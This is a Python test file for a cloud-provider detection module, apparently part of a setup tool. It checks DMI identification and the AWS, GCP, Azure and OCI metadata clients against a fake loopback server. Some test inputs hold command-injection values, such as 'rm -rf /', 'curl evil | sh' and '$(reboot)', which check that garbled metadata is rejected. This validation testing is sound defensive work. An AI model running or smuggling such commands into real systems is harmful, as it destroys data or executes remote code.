"""Cloud detection: DMI identification on real values, and the metadata clients against a real
HTTP server on loopback that plays each service with its documented format and rules.

DMI values: tests/fixtures/cloud/dmi_cases.json (each case cites where it was read).
Metadata formats: AWS IMDSv2 (token PUT, X-aws-ec2-metadata-token) [S1,S5,S6]; GCP
``Metadata-Flavor: Google`` both ways and ``projects/<n>/machineTypes/<type>`` [S4,S24]; Azure
``Metadata: true`` + api-version, JSON ``compute.vmSize`` [S13]; OCI v2 ``Authorization: Bearer
Oracle``, JSON ``shape`` [S14]. The refusals mirror the real services': IMDSv2-only returns 401
without a token, Azure 400 "Required metadata header not specified", GCP 403 without the flavour
header, OCI 401 without the bearer header.
"""

from __future__ import annotations

import contextlib
import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from setup_env.probe import cloud
from setup_env.probe.host import LiveHost, ReplayHost

FIXTURES = Path(__file__).parent / "fixtures" / "cloud"
CASES = json.loads((FIXTURES / "dmi_cases.json").read_text(encoding="utf-8"))["cases"]


def make_host(
    tmp: Path,
    dmi: dict[str, str] | None = None,
    hypervisor_uuid: str | None = None,
    system: str = "Linux",
    env: dict[str, str] | None = None,
    commands: list[dict[str, Any]] | None = None,
    files: dict[str, str] | None = None,
) -> ReplayHost:
    """A captured machine folder: host.json + files/sys/class/dmi/id/<field>."""
    tmp.mkdir(parents=True, exist_ok=True)
    doc = {"interpreter": {"system": system}, "env": env or {}, "commands": commands or []}
    (tmp / "host.json").write_text(json.dumps(doc), encoding="utf-8")
    all_files = dict(files or {})
    for name, value in (dmi or {}).items():
        all_files[f"/sys/class/dmi/id/{name}"] = value + "\n"
    if hypervisor_uuid is not None:
        all_files["/sys/hypervisor/uuid"] = hypervisor_uuid + "\n"
    for path, text in all_files.items():
        local = tmp / "files" / path.lstrip("/")
        local.parent.mkdir(parents=True, exist_ok=True)
        local.write_text(text, encoding="utf-8")
    return ReplayHost(tmp)


# --- DMI -----------------------------------------------------------------------------------


@pytest.mark.parametrize("case", CASES, ids=[c["name"] for c in CASES])
def test_identify_real_dmi(case: dict[str, Any]) -> None:
    ident = cloud.identify(case["dmi"], case.get("hypervisor_uuid"))
    expect = case["expect"]
    if expect is None:
        assert ident is None
        return
    assert ident is not None
    assert ident.provider == expect["provider"]
    assert ident.instance_type == expect["instance_type"]
    if "bare_metal" in expect:
        assert ident.bare_metal == expect["bare_metal"]


@pytest.mark.parametrize("case", CASES, ids=[c["name"] for c in CASES])
def test_detect_replays_dmi_files_without_network(tmp_path: Path, case: dict[str, Any]) -> None:
    host = make_host(tmp_path, case["dmi"], case.get("hypervisor_uuid"))
    start = time.perf_counter()
    info, _notes = cloud.detect(host)  # a replay never sends a request without endpoints
    assert time.perf_counter() - start < 0.5
    expect = case["expect"]
    if expect is None:
        assert info is None
        return
    assert info is not None
    assert info.provider == expect["provider"]
    assert info.instance_type == expect["instance_type"]
    assert info.sources["provider"].startswith(("/sys/class/dmi/id/", "/sys/hypervisor/uuid"))


def test_nitro_instance_type_fills_expectations_from_catalogue(tmp_path: Path) -> None:
    host = make_host(tmp_path, {"sys_vendor": "Amazon EC2", "product_name": "p4d.24xlarge"})
    info, _ = cloud.detect(host)
    assert info is not None
    assert (info.expected_gpus, info.expected_gpu_model) == (8, "NVIDIA A100-SXM4-40GB")
    assert info.fabric_manager is True
    assert info.expected_host_arch == "x86_64"
    assert info.sources["instance_type"] == "/sys/class/dmi/id/product_name"


def test_garbled_product_name_is_not_an_instance_type(tmp_path: Path) -> None:
    host = make_host(tmp_path, {"sys_vendor": "Amazon EC2", "product_name": "p4d; rm -rf /"})
    info, _ = cloud.detect(host)
    assert info is not None and info.provider == "aws"
    assert info.instance_type is None


def test_image_hints_offline(tmp_path: Path) -> None:
    host = make_host(
        tmp_path / "a",
        {"sys_vendor": "Amazon EC2", "product_name": "g5.xlarge"},
        files={"/etc/dlami/dlami_version": "101.0\n"},
    )
    info, _ = cloud.detect(host)
    assert info is not None and info.image == "Deep Learning AMI 101.0"
    host = make_host(
        tmp_path / "g",
        {"product_name": "Google Compute Engine"},
        files={"/opt/deeplearning/install-driver.sh": "#!/bin/bash\n"},
    )
    info, _ = cloud.detect(host)
    assert info is not None and info.image == "Deep Learning VM"


def test_container_note(tmp_path: Path) -> None:
    host = make_host(tmp_path, {"chassis_asset_tag": "OracleCloud.com"}, files={"/.dockerenv": ""})
    info, notes = cloud.detect(host)
    assert info is not None and info.provider == "oci"
    assert [n.code for n in notes] == ["cloud-seen-from-container"]


# The PowerShell query's output on an Azure VM (values: Win32_ComputerSystemProduct as on
# Hyper-V, systemd issue #21816; the Azure chassis tag, cloud-init ds-identify) and on an EC2
# Nitro Windows instance (UUID example from AWS's "Detect whether a host is an EC2 instance").
WINDOWS_AZURE = (
    "sys_vendor=Microsoft Corporation\r\nproduct_name=Virtual Machine\r\n"
    "product_uuid=2B3F1DE1-62B4-4E9C-9D38-0C1E6C2A1B77\r\n"
    "chassis_asset_tag=7783-7084-3265-9085-8269-3286-77\r\n"
)
WINDOWS_AWS = (
    "sys_vendor=Amazon EC2\r\nproduct_name=g4dn.xlarge\r\n"
    "product_uuid=EC2E1916-9099-7CAF-FD21-012345ABCDEF\r\nchassis_asset_tag=Amazon EC2\r\n"
)


@pytest.mark.parametrize(
    ("stdout", "provider", "itype"),
    [(WINDOWS_AZURE, "azure", None), (WINDOWS_AWS, "aws", "g4dn.xlarge")],
)
def test_windows_cim_query(tmp_path: Path, stdout: str, provider: str, itype: str | None) -> None:
    argv = ["powershell", "-NoProfile", "-NonInteractive", "-Command", cloud.POWERSHELL_QUERY]
    host = make_host(
        tmp_path, system="Windows", commands=[{"argv": argv, "returncode": 0, "stdout": stdout}]
    )
    info, _notes = cloud.detect(host)
    assert info is not None
    assert (info.provider, info.instance_type) == (provider, itype)


def test_windows_timeout_is_a_note(tmp_path: Path) -> None:
    argv = ["powershell", "-NoProfile", "-NonInteractive", "-Command", cloud.POWERSHELL_QUERY]
    host = make_host(
        tmp_path,
        system="Windows",
        commands=[{"argv": argv, "returncode": None, "error": "timeout"}],
    )
    info, notes = cloud.detect(host)
    assert info is None
    assert [n.code for n in notes] == ["cloud-dmi-unreadable"]


def test_macos_reads_nothing(tmp_path: Path) -> None:
    host = make_host(tmp_path, {"sys_vendor": "Amazon EC2"}, system="Darwin")
    assert cloud.detect(host) == (None, [])


# --- a metadata service on loopback ----------------------------------------------------------

TOKEN = "AQAEAFTuA1u-Gfu-8t3d1yNbbLrxsM5RfqbU6cnTfQAf4Kq0m7a9bQ=="
AZURE_DOC = {
    "compute": {
        "location": "eastus",
        "name": "h100-vm",
        "offer": "ubuntu-hpc",
        "publisher": "microsoft-dsvm",
        "sku": "2204",
        "storageProfile": {
            "imageReference": {
                "publisher": "microsoft-dsvm",
                "offer": "ubuntu-hpc",
                "sku": "2204",
                "version": "latest",
            }
        },
        "vmSize": "Standard_ND96isr_H100_v5",
        "zone": "1",
    },
    "network": {"interface": []},
}
OCI_DOC = {
    "availabilityDomain": "Uocm:US-ASHBURN-AD-1",
    "canonicalRegionName": "us-ashburn-1",
    "region": "iad",
    "shape": "BM.GPU.H100.8",
    "image": "ocid1.image.oc1.iad.aaaaaaaa",
}


class Service:
    """State of the fake service: mode per provider, and every request seen."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str, dict[str, str]]] = []
        self.aws_type = b"p4d.24xlarge"
        self.aws_token_status = 200
        self.delay = 0.0
        self.gcp_echo = True
        self.body_override: bytes | None = None


def make_handler(svc: Service) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: Any) -> None:
            pass

        def _send(self, status: int, body: bytes, headers: dict[str, str] | None = None) -> None:
            if svc.delay:
                time.sleep(svc.delay)
            if svc.body_override is not None and status == 200:
                body = svc.body_override
            self.send_response(status)
            for k, v in (headers or {}).items():
                self.send_header(k, v)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            with contextlib.suppress(OSError):
                self.wfile.write(body)

        def _record(self) -> dict[str, str]:
            headers = {k.lower(): v for k, v in self.headers.items()}
            svc.requests.append((self.command, self.path, headers))
            return headers

        def do_PUT(self) -> None:
            h = self._record()
            if self.path != "/latest/api/token":
                return self._send(404, b"")
            if svc.aws_token_status != 200:
                return self._send(svc.aws_token_status, b"")
            if "x-aws-ec2-metadata-token-ttl-seconds" not in h:
                return self._send(400, b"")  # the real IMDS refuses a PUT without a TTL
            return self._send(200, TOKEN.encode())

        def do_GET(self) -> None:
            h = self._record()
            path = self.path
            if path.startswith("/latest/"):
                if h.get("x-aws-ec2-metadata-token") != TOKEN:
                    return self._send(401, b"")  # IMDSv2 required
                leaf = {
                    "/latest/meta-data/instance-type": svc.aws_type,
                    "/latest/meta-data/placement/region": b"us-east-1",
                    "/latest/meta-data/placement/availability-zone": b"us-east-1a",
                }.get(path)
                return self._send(200, leaf) if leaf is not None else self._send(404, b"")
            if path.startswith("/computeMetadata/v1/"):
                if h.get("metadata-flavor") != "Google":
                    return self._send(403, b"Missing required header: Metadata-Flavor")
                leaf = {
                    "/computeMetadata/v1/instance/machine-type": (
                        b"projects/123456789012/machineTypes/a3-highgpu-8g"
                    ),
                    "/computeMetadata/v1/instance/zone": (
                        b"projects/123456789012/zones/us-central1-a"
                    ),
                    "/computeMetadata/v1/instance/image": (
                        b"projects/deeplearning-platform-release/global/images/"
                        b"common-cu129-ubuntu-2404-nvidia-580-v20250901"
                    ),
                }.get(path)
                if leaf is None:
                    return self._send(404, b"")
                extra = {"Metadata-Flavor": "Google"} if svc.gcp_echo else {}
                return self._send(200, leaf, {"Content-Type": "application/text", **extra})
            if path.startswith("/metadata/instance"):
                if h.get("metadata") != "true":
                    body = b'{"error":"Bad request. Required metadata header not specified"}'
                    return self._send(400, body)
                if "api-version=" not in path:
                    return self._send(
                        400, b'{"error":"Bad request. api-version was not specified"}'
                    )
                return self._send(200, json.dumps(AZURE_DOC).encode())
            if path.startswith("/opc/v2/"):
                if h.get("authorization") != "Bearer Oracle":
                    return self._send(401, b"")
                return self._send(200, json.dumps(OCI_DOC).encode())
            return self._send(404, b"")

    return Handler


@pytest.fixture
def service() -> Iterator[tuple[Service, str]]:
    svc = Service()
    server = ThreadingHTTPServer(("127.0.0.1", 0), make_handler(svc))
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    try:
        yield svc, f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def endpoints(base: str) -> dict[str, str]:
    return {p: base for p in cloud.METADATA_PROVIDERS}


XEN_AWS = {"sys_vendor": "Xen", "product_name": "HVM domU", "bios_version": "4.2.amazon"}


def test_aws_imdsv2_token_flow(tmp_path: Path, service: tuple[Service, str]) -> None:
    svc, base = service
    host = make_host(tmp_path, XEN_AWS, hypervisor_uuid="ec2c3dea-666a-3c8f-70b5-93c35396773e")
    info, notes = cloud.detect(host, endpoints=endpoints(base))
    assert info is not None
    assert (info.provider, info.instance_type, info.region, info.zone) == (
        "aws",
        "p4d.24xlarge",
        "us-east-1",
        "us-east-1a",
    )
    assert info.expected_gpus == 8
    assert info.sources["instance_type"] == "metadata:aws"
    assert notes == []
    methods = [(m, p) for m, p, _ in svc.requests]
    assert methods[0] == ("PUT", "/latest/api/token")
    assert all(h.get("x-aws-ec2-metadata-token") == TOKEN for m, _, h in svc.requests if m == "GET")


def test_nitro_with_type_in_dmi_sends_nothing(tmp_path: Path, service: tuple[Service, str]) -> None:
    svc, base = service
    host = make_host(tmp_path, {"sys_vendor": "Amazon EC2", "product_name": "g5.xlarge"})
    info, _ = cloud.detect(host, endpoints=endpoints(base))
    assert info is not None and info.instance_type == "g5.xlarge"
    assert svc.requests == []  # DMI already said everything detection needs


def test_aws_imds_disabled(tmp_path: Path, service: tuple[Service, str]) -> None:
    svc, base = service
    svc.aws_token_status = 403
    host = make_host(tmp_path, XEN_AWS, hypervisor_uuid="ec2c3dea-666a-3c8f-70b5-93c35396773e")
    info, notes = cloud.detect(host, endpoints=endpoints(base))
    assert info is not None and info.provider == "aws" and info.instance_type is None
    assert [n.code for n in notes] == ["cloud-metadata-disabled"]
    assert len(svc.requests) == 1


def test_aws_metadata_disabled_by_env(tmp_path: Path, service: tuple[Service, str]) -> None:
    svc, base = service
    host = make_host(
        tmp_path,
        XEN_AWS,
        hypervisor_uuid="ec2c3dea-666a-3c8f-70b5-93c35396773e",
        env={"AWS_EC2_METADATA_DISABLED": "true"},
    )
    info, _ = cloud.detect(host, endpoints=endpoints(base))
    assert info is not None and info.instance_type is None
    assert svc.requests == []


def test_gcp_metadata(tmp_path: Path, service: tuple[Service, str]) -> None:
    svc, base = service
    host = make_host(tmp_path, {"sys_vendor": "Google", "product_name": "Google Compute Engine"})
    info, _notes = cloud.detect(host, endpoints=endpoints(base))
    assert info is not None
    assert (info.instance_type, info.zone, info.region) == (
        "a3-highgpu-8g",
        "us-central1-a",
        "us-central1",
    )
    assert info.image is not None and "common-cu129-ubuntu-2404-nvidia-580" in info.image
    assert info.expected_gpus == 8 and info.expected_gpu_model == "NVIDIA H100 80GB HBM3"
    assert all(h.get("metadata-flavor") == "Google" for _, _, h in svc.requests)


def test_gcp_impostor_without_flavor_header(tmp_path: Path, service: tuple[Service, str]) -> None:
    svc, base = service
    svc.gcp_echo = False
    host = make_host(tmp_path, {"product_name": "Google"})
    info, notes = cloud.detect(host, endpoints=endpoints(base))
    assert info is not None and info.instance_type is None
    assert [n.code for n in notes] == ["cloud-metadata-not-gcp"]


def test_azure_metadata(tmp_path: Path, service: tuple[Service, str]) -> None:
    svc, base = service
    host = make_host(tmp_path, {"chassis_asset_tag": cloud.AZURE_ASSET_TAG})
    info, _notes = cloud.detect(host, endpoints=endpoints(base))
    assert info is not None
    assert (info.instance_type, info.region, info.zone, info.image) == (
        "Standard_ND96isr_H100_v5",
        "eastus",
        "1",
        "microsoft-dsvm:ubuntu-hpc:2204",
    )
    assert info.fabric_manager is True
    (_method, path, headers) = svc.requests[0]
    assert path == f"/metadata/instance?api-version={cloud.AZURE_API_VERSION}"
    assert headers["metadata"] == "true"


def test_oci_metadata(tmp_path: Path, service: tuple[Service, str]) -> None:
    svc, base = service
    host = make_host(tmp_path, {"chassis_asset_tag": "OracleCloud.com"})
    info, _ = cloud.detect(host, endpoints=endpoints(base))
    assert info is not None
    assert (info.instance_type, info.region, info.zone, info.bare_metal) == (
        "BM.GPU.H100.8",
        "us-ashburn-1",
        "Uocm:US-ASHBURN-AD-1",
        True,
    )
    assert svc.requests[0][2]["authorization"] == "Bearer Oracle"


@pytest.mark.parametrize(
    ("provider", "headers", "status"),
    [
        ("azure", {}, 400),
        ("gcp", {}, 403),
        ("oci", {}, 401),
    ],
)
def test_services_refuse_without_required_header(
    service: tuple[Service, str], provider: str, headers: dict[str, str], status: int
) -> None:
    """The fake refuses like the real services, so the header tests above can fail."""
    import http.client
    import urllib.parse

    _, base = service
    path = {
        "azure": "/metadata/instance?api-version=2021-02-01",
        "gcp": "/computeMetadata/v1/instance/machine-type",
        "oci": "/opc/v2/instance/",
    }[provider]
    u = urllib.parse.urlsplit(base)
    conn = http.client.HTTPConnection(u.hostname or "", u.port, timeout=2)
    conn.request("GET", path, headers=headers)
    assert conn.getresponse().status == status
    conn.close()


def test_slow_service_stays_within_budget(tmp_path: Path, service: tuple[Service, str]) -> None:
    svc, base = service
    svc.delay = 3.0
    host = make_host(tmp_path, {"chassis_asset_tag": "OracleCloud.com"})
    start = time.perf_counter()
    info, notes = cloud.detect(host, endpoints=endpoints(base))
    elapsed = time.perf_counter() - start
    assert elapsed < 1.0
    assert info is not None and info.provider == "oci" and info.instance_type is None
    assert [n.code for n in notes] == ["cloud-metadata-timeout"]


@pytest.mark.parametrize(
    "garbage",
    [
        b"p4d.24xlarge; curl evil | sh",
        b"\xff\xfe\x00binary",
        b"p4d.24xlarge\n--\nmore",
        b"",
    ],
)
def test_garbage_instance_type_rejected(
    tmp_path: Path, service: tuple[Service, str], garbage: bytes
) -> None:
    svc, base = service
    svc.aws_type = garbage
    host = make_host(tmp_path, XEN_AWS, hypervisor_uuid="ec2c3dea-666a-3c8f-70b5-93c35396773e")
    info, notes = cloud.detect(host, endpoints=endpoints(base))
    assert info is not None and info.instance_type is None
    if garbage.strip() and b"\n" not in garbage and not garbage.startswith(b"\xff"):
        assert [n.code for n in notes] == ["cloud-metadata-garbled"]


def test_huge_answer_rejected(tmp_path: Path, service: tuple[Service, str]) -> None:
    svc, base = service
    svc.body_override = b"{" + b" " * (cloud.MAX_ANSWER + 10) + b"}"
    host = make_host(tmp_path, {"chassis_asset_tag": cloud.AZURE_ASSET_TAG})
    info, notes = cloud.detect(host, endpoints=endpoints(base))
    assert info is not None and info.instance_type is None
    assert [n.code for n in notes] == ["cloud-metadata-garbled"]
    assert "bytes" in notes[0].message


def test_azure_garbled_json(tmp_path: Path, service: tuple[Service, str]) -> None:
    svc, base = service
    svc.body_override = b'{"compute": {"vmSize": "Standard_$(reboot)", "location": "East US!"}}'
    host = make_host(tmp_path, {"chassis_asset_tag": cloud.AZURE_ASSET_TAG})
    info, notes = cloud.detect(host, endpoints=endpoints(base))
    assert info is not None and info.instance_type is None and info.region is None
    assert [n.code for n in notes] == ["cloud-metadata-garbled", "cloud-metadata-garbled"]


def test_no_dmi_sends_nothing_and_waits_for_nothing(
    tmp_path: Path, service: tuple[Service, str]
) -> None:
    svc, base = service
    host = make_host(tmp_path)  # like this machine: no /sys/class/dmi/id at all
    assert cloud.detect(host, endpoints=endpoints(base)) == (None, [])
    assert svc.requests == []


def test_this_machine_sends_nothing(service: tuple[Service, str]) -> None:
    """The live host of the test run (a container without DMI): nothing sent, no waiting."""
    svc, base = service
    live = LiveHost()
    if cloud.identify(*cloud.read_dmi(live)) is not None:
        pytest.skip("this test machine is a cloud VM")
    live.interpreter()  # warm the shared interpreter snapshot; not part of the cloud probe
    assert cloud.detect(live, endpoints=endpoints(base)) == (None, [])
    assert svc.requests == []


def test_metadata_flag_asks_without_dmi(tmp_path: Path, service: tuple[Service, str]) -> None:
    _svc, base = service
    host = make_host(tmp_path)
    info, _ = cloud.detect(host, metadata=True, endpoints=endpoints(base))
    assert info is not None
    assert (info.provider, info.instance_type) == ("aws", "p4d.24xlarge")
    assert info.sources["provider"] == "metadata"


def test_metadata_false_never_asks(tmp_path: Path, service: tuple[Service, str]) -> None:
    svc, base = service
    host = make_host(tmp_path, {"chassis_asset_tag": "OracleCloud.com"})
    info, _ = cloud.detect(host, metadata=False, endpoints=endpoints(base))
    assert info is not None and info.instance_type is None
    assert svc.requests == []


def test_env_override_off(tmp_path: Path, service: tuple[Service, str]) -> None:
    svc, base = service
    host = make_host(
        tmp_path, {"chassis_asset_tag": "OracleCloud.com"}, env={"SETUP_ENV_CLOUD_METADATA": "0"}
    )
    cloud.detect(host, endpoints=endpoints(base))
    assert svc.requests == []


def test_unreachable_service_costs_one_connect(tmp_path: Path) -> None:
    import socket

    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()  # nothing listens there now: connection refused
    host = make_host(tmp_path)
    start = time.perf_counter()
    info, notes = cloud.detect(host, metadata=True, endpoints=endpoints(f"http://127.0.0.1:{port}"))
    assert info is None and notes == []
    assert time.perf_counter() - start < 0.5


def test_proxy_environment_is_ignored(
    tmp_path: Path, service: tuple[Service, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A corporate proxy in the environment must never see metadata traffic [S13,S25]."""
    proxy_svc = Service()
    proxy = ThreadingHTTPServer(("127.0.0.1", 0), make_handler(proxy_svc))
    thread = threading.Thread(target=proxy.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{proxy.server_address[1]}"
        for var in ("HTTP_PROXY", "http_proxy", "ALL_PROXY"):
            monkeypatch.setenv(var, url)
        monkeypatch.delenv("NO_PROXY", raising=False)
        monkeypatch.delenv("no_proxy", raising=False)
        _svc, base = service
        host = make_host(tmp_path, {"chassis_asset_tag": "OracleCloud.com"})
        info, _ = cloud.detect(host, endpoints=endpoints(base))
        assert info is not None and info.instance_type == "BM.GPU.H100.8"
        assert proxy_svc.requests == []
    finally:
        proxy.shutdown()
        proxy.server_close()


def test_parsers_on_documented_values() -> None:
    gcp = cloud.parse_gcp(
        {
            "machine-type": b"projects/123456789012/machineTypes/g2-standard-8",
            "zone": b"projects/123456789012/zones/europe-west4-a",
        }
    )
    assert (gcp.instance_type, gcp.zone, gcp.region) == (
        "g2-standard-8",
        "europe-west4-a",
        "europe-west4",
    )
    assert cloud.parse_oci(b"[]").notes[0].code == "cloud-metadata-garbled"
    assert cloud.parse_azure(b'{"compute": {}}').instance_type is None
